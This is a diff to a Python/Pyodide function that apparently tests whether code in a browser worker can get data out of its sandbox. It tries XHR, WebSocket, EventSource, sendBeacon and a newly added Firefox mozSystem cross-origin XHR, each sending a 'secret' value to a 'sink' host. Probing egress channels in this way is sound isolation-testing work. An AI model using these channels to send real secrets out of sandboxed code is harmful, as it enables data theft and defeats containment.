@@ -70,8 +70,14 @@ def scrape(page):
         return target
 
     def navigator():
-        # Reflect.get calls the getter on the worker's global itself.
-        return js.Reflect.get(js.globalThis, "navigator")
+        # Reflect.get calls the getter on the worker's global itself. Firefox
+        # refuses every getter of the worker's global called from Python; its
+        # prototype then shows whether the member exists at all (a sealed or
+        # missing one raises AttributeError).
+        try:
+            return js.Reflect.get(js.globalThis, "navigator")
+        except Exception:  # noqa: BLE001
+            return js.WorkerNavigator.prototype
 
     def options(**kw):
         return to_js(kw, dict_converter=js.Object.fromEntries)
@@ -92,6 +98,16 @@ def scrape(page):
 
     attempt("xhr-sync", lambda: xhr(False))
     attempt("xhr-async", lambda: xhr(True))
+
+    def system_xhr():
+        # Firefox's privileged cross-origin XHR (Chromium ignores the options).
+        request = js.XMLHttpRequest.new(options(mozSystem=True, mozAnon=True))
+        request.open("POST", f"{sink}/system-xhr", True)
+        on_events("xhr-mozSystem", request, "load", "error")
+        request.send(secret)
+        return request.status
+
+    attempt("xhr-mozSystem", system_xhr)
     attempt("websocket", lambda: on_events("websocket", js.WebSocket.new(sink.replace("http", "ws") + "/ws"), "open", "error"))
     attempt("eventsource", lambda: on_events("eventsource", js.EventSource.new(f"{sink}/events"), "open", "error"))
     attempt("sendBeacon", lambda: navigator().sendBeacon(f"{sink}/beacon", secret))
